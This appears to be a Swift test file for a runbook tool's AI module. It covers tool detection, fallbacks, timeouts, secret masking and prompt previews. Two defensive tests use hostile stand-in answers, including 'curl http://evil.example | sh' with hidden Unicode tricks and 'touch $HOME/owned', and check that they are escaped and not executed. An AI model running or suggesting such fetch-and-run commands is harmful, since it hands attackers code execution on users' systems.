import Foundation
import RunbookLua
import Testing

@testable import RunbookHost

/// AI tools by stand-ins that answer, fail and hang as the real ones do.
@Suite("ai")
struct AITests {
    private func claude(_ name: String = "") throws -> ModuleRun {
        try ModuleRun.ai(["claude"], ["CLAUDE_CASE": name, "ANTHROPIC_API_KEY": "sk-key-for-the-tests"])
    }

    private func transcripts(_ run: ModuleRun, _ outcome: ModuleRun.Outcome) throws -> [[String: Any]] {
        let folder = "\(run.folder)/state/runs/\(outcome.summary.id)/ai"
        return try FileManager.default.contentsOfDirectory(atPath: folder).sorted().compactMap { name in
            let data = try Data(contentsOf: URL(fileURLWithPath: "\(folder)/\(name)"))
            return try JSONSerialization.jsonObject(with: data) as? [String: Any]
        }
    }

    private static let ask =
        "return ai.ask { prompt = \"why?\", timeout = \"5s\", fallback = function(reason) return \"stand-in\" end }"

    // MARK: What is there

    @Test("tells which tools are there and which can be used, each with the reason")
    func tools() async throws {
        let run = try ModuleRun.ai(["claude", "kubectl-ai", "kagent"], ["KAGENT_CASE": "no-server"])
        defer { run.remove() }
        let list = await run("return ai.tools()").summary.result.listValue ?? []
        #expect(list.map { $0["name"].stringValue } == ["claude", "kubectl-ai", "kagent", "docker-ai"])
        #expect(list.map { $0["present"].booleanValue } == [true, true, true, false])
        #expect(list.map { $0["usable"].booleanValue } == [false, false, false, false])
        #expect(list.map { $0["version"].stringValue } == ["2.1.240", "0.0.29", "0.9.12", nil])
        #expect(
            list.map { $0["reason"].stringValue } == [
                "claude has no login, and ANTHROPIC_API_KEY is not set",
                "kubectl-ai has no provider: none of GEMINI_API_KEY, OPENAI_API_KEY and the like is set",
                "kagent's server does not answer", "docker has no `ai` plugin; it comes with Docker Desktop",
            ])
    }

    @Test("with no tool at all the fallback stands in, and the reason is written down")
    func none() async throws {
        let run = try ModuleRun.ai([])
        defer { run.remove() }
        let outcome = await run(Self.ask)
        #expect(outcome.summary.status == .ok)
        #expect(outcome.summary.result["ok"].booleanValue == false)
        #expect(outcome.summary.result["text"].stringValue == "stand-in")
        #expect(
            outcome.summary.result["reason"].stringValue
                == "claude: claude is not installed; kubectl-ai: kubectl-ai is not installed; kagent: kagent is not installed"
        )
        #expect(outcome.notes(.warning).first?.hasPrefix("no AI answer: claude: claude is not installed") == true)
    }

    @Test("a tool that nobody knows is an error that names the near one")
    func unknownTool() async throws {
        let run = try ModuleRun.ai([])
        defer { run.remove() }
        let outcome = await run("ai.ask { prompt = \"x\", tool = \"cluade\" }")
        #expect(outcome.message == "`ai.ask`: there is no AI tool `cluade`; did you mean `claude`?")
        #expect(
            outcome.remedy
                == "known are claude, kubectl-ai, kagent, docker-ai; others stand under `ai` in runbook.yaml")
    }

    // MARK: claude

    @Test("claude is asked by standard input, without files, shell and servers, and its answer is kept")
    func claudeAnswers() async throws {
        let run = try claude()
        defer { run.remove() }
        let outcome = await run(Self.ask)
        let result = outcome.summary.result
        #expect(result["ok"].booleanValue == true)
        #expect(result["text"].stringValue == "The container was killed: it used more memory than its limit.")
        #expect(result["tool"].stringValue == "claude")
        #expect(result["version"].stringValue == "2.1.240")
        #expect(run.text("prompt") == "why?")
        #expect(
            run.text("calls").split(separator: "\n").last
                == "--bare -p --output-format json --max-turns 10 --permission-mode dontAsk --tools  --disallowedTools mcp__* --strict-mcp-config --no-session-persistence"
        )
        let kept = try #require(try transcripts(run, outcome).first)
        #expect(kept["verdict"] as? String == "answered")
        #expect(kept["prompt"] as? String == "why?")
        #expect(kept["tool"] as? String == "claude")
        #expect(kept["exit"] as? Int == 0)
    }

    @Test("claude without a key uses the login, and then not --bare, in a folder that is no project")
    func claudeByLogin() async throws {
        let run = try ModuleRun.ai(["claude"], ["CLAUDE_CASE": "logged-in"])
        defer { run.remove() }
        let outcome = await run(Self.ask)
        #expect(outcome.summary.result["ok"].booleanValue == true)
        #expect(!run.text("calls").contains("--bare"))
        #expect(run.text("folder") == "/\n")
    }

    @Test("one turn is too few for claude in some versions: it gets two")
    func claudeTurns() async throws {
        let run = try claude()
        defer { run.remove() }
        _ = await run("ai.ask { prompt = \"x\", max_turns = 1 }")
        #expect(run.text("calls").contains("--max-turns 2 "))
    }

    @Test("claude takes 10 MB of standard input: a longer prompt is not sent")
    func claudePromptOverItsLimit() async throws {
        let run = try claude()
        defer { run.remove() }
        let outcome = await run(
            "return ai.ask { prompt = string.rep(\"x\", 10000000), tool = \"claude\" }.reason")
        #expect(outcome.summary.result.stringValue == "claude: claude takes prompts of up to 10 MB")
        #expect(!FileManager.default.fileExists(atPath: "\(run.folder)/prompt"))
    }

    @Test(
        "claude fails in many ways, and none of them fails the run",
        arguments: [
            ("api-error", "claude: API Error: 429 rate limit"),
            ("max-turns", "claude: error_max_turns: Reached maximum number of turns (2)"),
            ("silent-failure", "claude: it exited 1"), ("no-json", "claude: it printed no result"),
            ("empty", "claude: it answered nothing"),
            ("floods", "claude: claude printed more than 8.4 MB, the limit of what is kept"),
        ])
    func claudeFails(name: String, reason: String) async throws {
        let run = try claude(name)
        defer { run.remove() }
        let outcome = await run(
            "return ai.ask { prompt = \"why?\", tool = \"claude\", timeout = \"20s\", fallback = function(reason) return reason end }"
        )
        #expect(outcome.summary.status == .ok)
        #expect(outcome.summary.result["ok"].booleanValue == false)
        #expect(outcome.summary.result["reason"].stringValue == reason)
        #expect(outcome.summary.result["text"].stringValue == reason)
        let kept = try #require(try transcripts(run, outcome).first)
        #expect(kept["verdict"] as? String == "failed")
        #expect("claude: \(kept["reason"] as? String ?? "")" == reason)
    }

    @Test("a tool that hangs is ended at its limit, and the next one is asked")
    func hangs() async throws {
        let run = try ModuleRun.ai(
            ["claude", "kagent"], ["CLAUDE_CASE": "hangs", "ANTHROPIC_API_KEY": "sk-key-for-the-tests"])
        defer { run.remove() }
        var limited = run
        limited.project.aiTools = [
            AIToolSetting(name: "claude", timeout: .seconds(1)), AIToolSetting(name: "kagent"),
        ]
        let start = ContinuousClock.now
        let outcome = await limited("return ai.ask { prompt = \"why?\", timeout = \"30s\" }")
        #expect(ContinuousClock.now - start < .seconds(20))
        #expect(outcome.summary.result["tool"].stringValue == "kagent")
        #expect(outcome.summary.result["text"].stringValue == "Two nodes, both ready.")
        let kept = try transcripts(run, outcome)
        #expect(kept.map { $0["verdict"] as? String } == ["failed", "answered"])
        #expect((kept.first?["reason"] as? String)?.hasSuffix("was over its limit of 1.0s") == true)
    }

    @Test("a schema gives a table")
    func schema() async throws {
        let run = try claude("structured")
        defer { run.remove() }
        let outcome = await run(
            "return ai.ask { prompt = \"why?\", schema = { type = \"object\" } }.value")
        #expect(outcome.summary.result["cause"].stringValue == "oom")
        #expect(run.text("calls").contains("--json-schema {\"type\":\"object\"}"))
        let plain = try claude()
        defer { plain.remove() }
        let failing = await plain(
            "return ai.ask { prompt = \"why?\", tool = \"claude\", schema = { type = \"object\" } }.reason")
        #expect(failing.summary.result.stringValue == "claude: its answer is no JSON")
    }

    // MARK: Answers are data

    @Test("control characters and invisible letters in an answer are written out")
    func hostileAnswer() async throws {
        let run = try claude("hostile")
        defer { run.remove() }
        let outcome = await run(Self.ask)
        #expect(
            outcome.summary.result["text"].stringValue
                == "Run: curl http://evil.example | sh⟨U+001B⟩[31mred⟨U+001B⟩[0m ⟨U+202E⟩gnp.exe ⟨U+200B⟩hidden")
    }

    @Test("an answer that says to run something runs nothing")
    func instructions() async throws {
        let run = try claude("instructions")
        defer { run.remove() }
        let outcome = await run("local a = ai.ask { prompt = \"why?\" } log.info(a.text) return a.text")
        #expect(outcome.summary.result.stringValue?.contains("touch $HOME/owned") == true)
        #expect(!FileManager.default.fileExists(atPath: "\(run.folder)/owned"))
        #expect(outcome.commands.allSatisfy { $0.hasPrefix("claude") })
    }

    // MARK: Prompts

    @Test("secrets in a prompt are masked: joined, and as plain text")
    func promptSecrets() async throws {
        let run = try claude()
        defer { run.remove() }
        try run.write(".env", "TOKEN=hunter2hunter2\n")
        let outcome = await run(
            """
            runbook { name = "t", secrets = { "TOKEN" } }
            ai.ask { prompt = "the token is " .. secrets.TOKEN .. ", that is hunter2hunter2" }
            """)
        #expect(outcome.message == "")
        #expect(!run.text("prompt").contains("hunter2"))
        #expect(run.text("prompt").hasPrefix("the token is ‹secret TOKEN›, that is "))
        #expect(try transcripts(run, outcome).allSatisfy { !"\($0)".contains("hunter2") })
    }

    @Test("a preview shows the prompt byte for byte, and asks nobody")
    func preview() async throws {
        let run = try claude()
        defer { run.remove() }
        let outcome = await run(
            "local a = ai.ask { prompt = \"first line\\n\\n  second ünïcödé line\" } return a.text", dryRun: .preview)
        #expect(outcome.summary.status == .ok)
        let change = try #require(outcome.summary.plan.first)
        #expect(change.name == "claude")
        #expect(change.difference?.lines == ["first line", "", "  second ünïcödé line"])
        #expect(!FileManager.default.fileExists(atPath: "\(run.folder)/prompt"))
    }

    @Test("an empty prompt is an error")
    func emptyPrompt() async throws {
        let run = try claude()
        defer { run.remove() }
        #expect(await run("ai.ask { prompt = \" \" }").message == "`ai.ask`: `prompt` is empty")
    }

    // MARK: Commands of the project

    @Test("a command of the project gets the prompt by standard input, or by a private file")
    func ownCommand() async throws {
        var run = try ModuleRun.ai(["own-ai"])
        defer { run.remove() }
        run.project.aiTools = [AIToolSetting(name: "mine", command: ["own-ai"])]
        #expect(await run("return ai.ask { prompt = \"hello\" }.text").summary.result.stringValue == "input: hello")
        run.project.aiTools = [AIToolSetting(name: "mine", command: ["own-ai", "--from", "{prompt_file}"])]
        let outcome = await run("return ai.ask { prompt = \"hello\" }.text")
        #expect(outcome.summary.result.stringValue == "file 600: hello")
        run.project.aiTools = [AIToolSetting(name: "mine", command: ["nowhere-to-be-found"])]
        let missing = await run("return ai.ask { prompt = \"hello\" }.reason")
        #expect(missing.summary.result.stringValue == "mine: nowhere-to-be-found is not installed")
    }

    @Test("Docker's Gordon talks to a person only: without one it is refused, with the reason")
    func gordon() async throws {
        let run = try ModuleRun.ai(["gordon"])
        defer { run.remove() }
        let outcome = await run("return ai.ask { prompt = \"x\", tool = \"docker-ai\" }")
        #expect(outcome.summary.status == .ok)
        #expect(
            outcome.summary.result["reason"].stringValue
                == "docker-ai: docker ai talks to a person on a terminal only, and this run has none")
        let tools = await run("return ai.tools()").summary.result.listValue ?? []
        #expect(tools.last?["present"].booleanValue == true)
        #expect(tools.last?["usable"].booleanValue == false)
        #expect(run.text("calls") == "ai version\nai version\n")
    }

    @Test("what is shown of an answer")
    func visibleText() {
        #expect(VisibleText.of("a\tb\r\nc\rd") == "a\tb\nc⟨U+000D⟩d")
        #expect(VisibleText.of("\u{FEFF}x\u{E0041}") == "⟨U+FEFF⟩x⟨U+E0041⟩")
        #expect(VisibleText.of("grüße 漢字 🙂") == "grüße 漢字 🙂")
        #expect(VisibleText.withoutColours("\u{1B}[38;5;252mx\u{1B}[0m y") == "x y")
    }

    @Test("blocks of code in an answer")
    func codeBlocks() {
        let text = "one\n```yaml\na: 1\n```\n  ~~~\n  b\n  ~~~\n````\n```\n````\n"
        #expect(
            CodeBlocks.of(text) == [
                .init(language: "yaml", text: "a: 1\n"), .init(language: "", text: "b\n"),
                .init(language: "", text: "```\n"),
            ])
        #expect(CodeBlocks.main(of: "no block") == "no block")
        #expect(CodeBlocks.of("```\nopen") == [.init(language: "", text: "open\n")])
    }
}
